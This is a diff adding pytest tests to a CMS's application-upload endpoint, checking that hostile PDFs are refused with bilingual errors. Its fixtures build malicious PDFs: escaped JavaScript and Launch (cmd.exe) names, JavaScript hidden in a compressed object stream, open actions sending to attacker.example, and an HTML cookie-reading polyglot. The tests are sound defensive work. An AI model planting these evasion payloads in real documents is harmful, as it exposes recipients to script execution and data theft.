@@ -2,18 +2,24 @@
 that let it through."""
 
 import io
+import struct
 import time
+import zlib
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 import requests
 from PIL import Image
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
 from cms.applications.models import Application
 from tests.cms.test_applications import (
+    IMMEDIATE,
     company,
     delivery_for,
     form_of,
+    pdf,
+    person,
     post_api,
     raw_multipart,
     upload,
@@ -110,3 +116,84 @@ def test_concurrent_image_floods_are_refused_while_the_home_page_answers(databas
     assert all("图片像素过多" in text for _, _, text in answers)
     assert max(seconds for _, seconds, _ in answers) < 1, [a[:2] for a in answers]  # before: 12–16 s each
     assert home_seconds < 2, home_seconds  # before: 31 s, every worker killed by its timeout
+
+
+# ---- 2. PDFs are checked by a real parser ---------------------------------------------------------
+
+
+def action(kind: str, **entries) -> DictionaryObject:
+    value = DictionaryObject({NameObject("/S"): NameObject(f"/{kind}")})
+    value.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in entries.items()})
+    return value
+
+
+def object_stream_pdf(active: bytes) -> bytes:
+    """A PDF 1.5 whose catalog, pages and open action sit in one Flate-compressed object stream, so no
+    byte of the action shows in the file."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
+        active,
+    ]
+    body, offsets = b"", []
+    for value in objects:
+        offsets.append(len(body))
+        body += value + b"\n"
+    header = b" ".join(b"%d %d" % (n + 1, at) for n, at in enumerate(offsets)) + b"\n"
+    packed = zlib.compress(header + body)
+    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
+    stream_at = len(out)
+    out += b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (
+        len(header),
+        len(packed),
+    )
+    out += packed + b"\nendstream\nendobj\n"
+    xref_at = len(out)
+    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 2, 5, n) for n in range(4))
+    rows += struct.pack(">BIH", 1, stream_at, 0) + struct.pack(">BIH", 1, xref_at, 0)
+    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
+    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
+    return out
+
+
+HOSTILE_PDFS = {
+    "escaped-javascript-name": lambda: pdf().replace(b"/Producer", b"/Java#53cript (app.alert(1)) /Producer"),
+    "escaped-launch-name": lambda: pdf(OpenAction=action("Launch", F="cmd.exe")).replace(b"/Launch", b"/L#61unch"),
+    "javascript-in-object-stream": lambda: object_stream_pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+    "open-action-uri": lambda: pdf(OpenAction=action("URI", URI="https://attacker.example/x")),
+    "open-action-submit-form": lambda: pdf(OpenAction=action("SubmitForm", F="https://attacker.example/f")),
+    "html-polyglot-after-1kb": lambda: pdf() + b" " * 2048 + b"<html><script>alert(document.cookie)</script>",
+}
+
+
+@pytest.mark.parametrize("make", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
+def test_hostile_pdfs_are_refused(client, make):
+    form = form_of(IMMEDIATE)
+    field = form.asked[0].field
+    data = {"guide": IMMEDIATE, **person(), **delivery_for(form), field: upload("form.pdf", make())}
+    response = post_api(client, data)
+    assert response.status_code == 400, response.content
+    error = response.json()["error"]
+    assert error["code"] == "script_not_allowed"
+    assert "不接受含脚本" in error["fields"][field] and "not accepted" in error["fields"][field]
+    assert not Application.objects.exists()
+
+
+def test_a_plain_pdf_with_a_link_and_a_page_open_action_is_accepted(client):
+    form = form_of(IMMEDIATE)
+    field = form.asked[0].field
+    data = {"guide": IMMEDIATE, **person(), **delivery_for(form)}
+    data[field] = upload("ok.pdf", object_stream_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>"))
+    response = post_api(client, data)
+    assert response.status_code == 201, response.content
+
+
+def test_a_damaged_pdf_is_refused_with_its_reason(client):
+    form = form_of(IMMEDIATE)
+    field = form.asked[0].field
+    data = {"guide": IMMEDIATE, **person(), **delivery_for(form), field: upload("x.pdf", b"%PDF-1.7\n" + b"\0" * 64)}
+    response = post_api(client, data)
+    assert response.status_code == 400, response.content
+    assert response.json()["error"]["code"] == "damaged_pdf"
+    assert "PDF 文件已损坏" in response.json()["error"]["fields"][field]
